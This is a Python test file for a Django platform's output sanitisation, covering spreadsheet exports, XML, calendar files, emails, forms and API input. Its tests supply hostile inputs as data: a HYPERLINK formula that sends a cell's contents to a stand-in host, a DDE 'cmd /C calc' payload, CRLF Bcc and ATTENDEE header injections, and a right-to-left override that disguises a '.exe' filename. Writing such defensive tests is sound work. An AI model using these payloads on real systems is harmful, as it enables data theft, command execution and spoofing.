"""Text that leaves the platform (spreadsheets, XML documents, e-mails, calendar files) and text
that enters it (forms and API): the rows of the penetration test about characters."""

from __future__ import annotations

import datetime as dt
import io
import xml.etree.ElementTree as ET
from decimal import Decimal
from typing import Any

import pytest
from django.urls import reverse
from django.utils import timezone

from digihub.companies.models import Company
from digihub.core.outbound import email_subject, ics_text, spreadsheet_cell, xml_text
from digihub.funding import demo as funding_demo
from digihub.intake import services as intake
from digihub.network.models import KnowledgePartner
from digihub.trajectories import services
from digihub.trajectories.calendar import to_ics
from digihub.trajectories.models import Session

pytestmark = pytest.mark.usefixtures("english")  # texts are read back in English

LINES = [{"description": "Analyse", "days": "2", "day_rate": "1000"}]
CHARTS = ("funnel", "phases", "budget", "lead_times", "partners")


@pytest.fixture(autouse=True)
def english(client: Any) -> Any:
    """Messages are checked in the English source text; every reader computes afresh."""
    from django.core.cache import cache
    from django.utils import translation

    client.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"
    cache.clear()
    with translation.override("en"):
        yield
    cache.clear()


@pytest.fixture
def advised(people: Any, settings: Any) -> Any:
    """One trajectory of company X with partner P, signed and with its advice delivered, so the
    report names the partner (load table, chart) and the company (latest advice)."""
    settings.DIGIHUB_REPORT_CACHE_SECONDS = 0
    funding_demo.build()
    p = people
    question, _created = intake.register_question(
        actor=None,
        data=intake.Registration(
            enterprise_number=p.company_x.enterprise_number,
            company_name=p.company_x.name,
            postcode="3000",
            city="Leuven",
            first_name="Sam",
            last_name="Smet",
            email="sam@x.example",
            text="Sensoren",
            consent=True,
        ),
    )
    intake.take_question(actor=p.advisor_a, question=question)
    intake.record_conversation(
        actor=p.advisor_a, question=question, held_on=timezone.localdate(), participants="Sam"
    )
    t = intake.decide_trajectory(
        actor=p.advisor_a, question=question, partner=p.partner_p.partner, reason="lab"
    )
    quote = services.issue_quote(
        actor=p.partner_p,
        quote=services.save_quote(
            actor=p.partner_p,
            trajectory=t,
            scope="Analyse",
            methodology="",
            valid_until=timezone.localdate() + dt.timedelta(days=9),
            lines=LINES,
        ),
    )
    services.sign_quote_online(
        actor=p.sme_x, quote=quote, signer_name="Sam", pdf_sha256=quote.pdf_sha256
    )
    services.deliver_advice(
        actor=p.partner_p,
        trajectory=t,
        kind="action_plan",
        delivered_on=timezone.localdate(),
        summary="Plan",
    )
    p.trajectory = t
    return p


def _rename(p: Any, *, partner: str, company: str) -> None:
    """Names as they may already be stored (imported, or typed before input was checked)."""
    KnowledgePartner.objects.filter(pk=p.partner_p.partner_id).update(short_name=partner)
    Company.objects.filter(pk=p.company_x.pk).update(name=company)


def _cells(book: Any) -> list[Any]:
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


@pytest.mark.django_db
def test_row04_formula_prefix_neutralised_in_report_xlsx(advised: Any, client_for: Any) -> None:
    from openpyxl import load_workbook

    partner = '=HYPERLINK("http://e.vil/?"&A1)'  # fits short_name (40)
    company = "@SUM(1+1)*cmd|' /C calc'!A0"
    _rename(advised, partner=partner, company=company)
    response = client_for(advised.coordinator).get(reverse("reporting:download", args=["xlsx"]))
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    cells = _cells(book)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]  # no formula at all
    values = {cell.value for cell in cells}
    assert "'" + partner in values and "'" + company in values
    assert partner not in values and company not in values
    # numbers stay numbers: counts are typed, never digits stored as text
    assert any(isinstance(cell.value, int) and cell.value == 1 for cell in cells)
    assert not [c.coordinate for c in cells if isinstance(c.value, str) and c.value.isdigit()]


def test_row04_spreadsheet_cell_rule() -> None:
    for typed in ("=1+1", "+32 2 123", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"):
        assert str(spreadsheet_cell(typed)).startswith("'"), typed
    assert spreadsheet_cell("-3") == "-3" and spreadsheet_cell("+4,5") == "+4,5"
    assert spreadsheet_cell(12) == 12 and spreadsheet_cell(Decimal("1.50")) == Decimal("1.50")
    assert spreadsheet_cell(None) is None and spreadsheet_cell(dt.date(2026, 1, 2)).year == 2026
    assert spreadsheet_cell("VUB\x07") == "VUB" and spreadsheet_cell("a\r\nb") == "a\nb"


@pytest.mark.django_db
def test_row05_control_character_in_partner_name_does_not_break_report_downloads(
    advised: Any, client_for: Any
) -> None:
    from docx import Document
    from openpyxl import load_workbook

    _rename(advised, partner="VUB\x07lab", company="Bedrijf\x0b X")
    client = client_for(advised.coordinator)
    pdf = client.get(reverse("reporting:download", args=["pdf"]))
    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF")
    docx = client.get(reverse("reporting:download", args=["docx"]))
    assert docx.status_code == 200
    document = Document(io.BytesIO(docx.content))
    cells = {cell.text for table in document.tables for row in table.rows for cell in row.cells}
    assert "VUBlab" in cells and "Bedrijf X" in cells
    xlsx = client.get(reverse("reporting:download", args=["xlsx"]))
    assert xlsx.status_code == 200
    values = {cell.value for cell in _cells(load_workbook(io.BytesIO(xlsx.content)))}
    assert "VUBlab" in values and "Bedrijf X" in values
    for name in CHARTS:
        svg = client.get(reverse("reporting:chart", args=[name]))
        assert svg.status_code == 200, name
        ET.fromstring(svg.content)  # noqa: S314  (well-formed XML; our own server's output)
    partners = client.get(reverse("reporting:chart", args=["partners"])).content.decode()
    assert "VUBlab" in partners
    page = client.get(reverse("reporting:report"))
    assert page.status_code == 200


def test_row05_xml_text_removes_what_xml_forbids() -> None:
    assert xml_text("a\x00b\x07c\x0bd\x0ce\x1ff\ufffeg") == "abcdefg"
    assert xml_text("tab\tline\nreturn\r ok é €") == "tab\tline\nreturn\r ok é €"


@pytest.mark.django_db
def test_row05_control_characters_never_reach_calendar_files(advised: Any) -> None:
    start = timezone.now() + dt.timedelta(days=2)
    session = Session.objects.create(
        trajectory=advised.trajectory,
        title="Testdag\x07\r\nATTENDEE:mailto:evil@example.org",
        starts_at=start,
        ends_at=start + dt.timedelta(hours=2),
        location="Lab\x0b 1",
        agenda="Deel 1\r\nDeel 2\x1b",
        created_by=advised.partner_p,
    )
    ics = to_ics([session]).decode()
    assert not any(ord(c) < 32 and c not in "\r\n" for c in ics)
    lines = ics.split("\r\n")
    assert not any(line.startswith("ATTENDEE") for line in lines)
    assert "SUMMARY:Testdag ATTENDEE:mailto:evil@example.org" in ics.replace("\r\n ", "")
    assert "DESCRIPTION:Deel 1\\nDeel 2" in ics and "LOCATION:Lab 1" in ics
    assert ics_text("a\rb") == "a b" and ics_text("a\rb", multiline=True) == "a\nb"


@pytest.mark.django_db
def test_row16_bidi_and_zero_width_rejected_in_forms_and_api(advised: Any, client_for: Any) -> None:
    from digihub.intake.forms import PublicQuestionForm
    from digihub.trajectories.forms import SessionForm

    start = (timezone.localtime() + dt.timedelta(days=2)).strftime("%Y-%m-%dT%H:%M")
    end = (timezone.localtime() + dt.timedelta(days=2, hours=2)).strftime("%Y-%m-%dT%H:%M")
    session = {"kind": "session", "place": "lab", "starts_at": start, "ends_at": end}
    for typed in ("Test\u202egnp.exe", "Te\u200bst", "Test\u2066x\u2069", "\ufeffTest"):
        form = SessionForm(data={**session, "title": typed})
        assert not form.is_valid() and list(form.errors) == ["title"], typed
        assert "invisible or control character" in form.errors["title"][0]
        assert form["title"].value() == typed  # what the user typed stays in the field
    line_break = SessionForm(data={**session, "title": "Test\r\nBcc: x@example.org"})
    assert "single line" in line_break.errors["title"][0]
    bell = SessionForm(data={**session, "title": "Test\x07"})
    assert "U+0007" in bell.errors["title"][0]
    multi = SessionForm(data={**session, "title": "Test", "agenda": "Deel 1\r\n\tDeel 2"})
    assert multi.is_valid(), multi.errors
    assert "agenda" in SessionForm(data={**session, "title": "T", "agenda": "a\u200db"}).errors

    # A page shows the message next to the field and keeps what was typed.
    public = {
        "enterprise_number": "0403.019.261",
        "company_name": "Nieuw\u202e BV",
        "postcode": "3000",
        "city": "Leuven",
        "first_name": "Lies",
        "last_name": "Maes",
        "email": "lies@nieuw.example",
        "text": "Hoe?",
        "consent": "on",
        "token": "b" * 32,
    }
    assert "company_name" in PublicQuestionForm(data=public).errors
    page = client_for(advised.sme_x).post(reverse("intake:public_form"), public)
    assert page.status_code == 400
    body = page.content.decode()
    assert "invisible or control character U+202E at position 6" in body
    assert "Nieuw\u202e BV" in body

    # The API answers 422 at the field.
    t = advised.trajectory
    api = client_for(advised.partner_p)
    url = f"/api/v1/trajectories/{t.pk}/sessions"
    payload = {
        "title": "Test\u202egnp.exe",
        "starts_at": (timezone.now() + dt.timedelta(days=2)).isoformat(),
        "ends_at": (timezone.now() + dt.timedelta(days=2, hours=2)).isoformat(),
    }
    refused = api.post(url, payload, content_type="application/json")
    assert refused.status_code == 422
    (error,) = refused.json()["detail"]
    assert error["loc"][-1] == "title" and "U+202E" in error["msg"]
    crlf = api.post(url, {**payload, "title": "T\r\nBcc: x"}, content_type="application/json")
    assert crlf.status_code == 422 and "single line" in crlf.json()["detail"][0]["msg"]
    zero_width = api.post(
        url, {**payload, "title": "Test", "agenda": "a\u200bb"}, content_type="application/json"
    )
    assert zero_width.status_code == 422 and zero_width.json()["detail"][0]["loc"][-1] == "agenda"
    accepted = api.post(
        url,
        {**payload, "title": "Test", "agenda": "Deel 1\nDeel 2"},
        content_type="application/json",
    )
    assert accepted.status_code == 201, accepted.content
    company = client_for(advised.coordinator).patch(
        f"/api/v1/companies/{advised.company_x.pk}",
        {"name": "X\u200b"},
        content_type="application/json",
    )
    assert company.status_code == 422 and company.json()["detail"][0]["loc"][-1] == "name"


@pytest.mark.django_db
def test_row16_crlf_in_session_title_still_sends_invitation(
    advised: Any, mailoutbox: Any, django_capture_on_commit_callbacks: Any
) -> None:
    start = timezone.now() + dt.timedelta(days=2)
    mailoutbox.clear()
    with django_capture_on_commit_callbacks(execute=True):
        services.plan_session(
            actor=advised.partner_p,
            trajectory=advised.trajectory,
            title="Testdag\r\nBcc: evil@example.org",
            starts_at=start,
            ends_at=start + dt.timedelta(hours=2),
        )
    (mail,) = mailoutbox
    assert mail.subject.endswith(": Testdag Bcc: evil@example.org")  # one line, in any language
    assert "evil@example.org" not in mail.recipients()
    assert advised.sme_x.email in mail.to or "sam@x.example" in mail.to
    assert email_subject("a\r\n\tb\x07") == "a b"


@pytest.mark.django_db
def test_row16_plain_text_mail_not_html_escaped(
    advised: Any, mailoutbox: Any, django_capture_on_commit_callbacks: Any
) -> None:
    start = timezone.now() + dt.timedelta(days=2)
    mailoutbox.clear()
    with django_capture_on_commit_callbacks(execute=True):
        services.plan_session(
            actor=advised.partner_p,
            trajectory=advised.trajectory,
            title='R&D <script> "demo" it\'s',
            starts_at=start,
            ends_at=start + dt.timedelta(hours=2),
            location="Lab <1> & 2",
            agenda="Deel 1\nDeel 2: a < b & c > d",
        )
    (mail,) = mailoutbox
    assert 'R&D <script> "demo" it\'s' in mail.body
    assert "Lab <1> & 2" in mail.body and "Deel 1\nDeel 2: a < b & c > d" in mail.body
    assert "&lt;" not in mail.body and "&amp;" not in mail.body and "&#x27;" not in mail.body
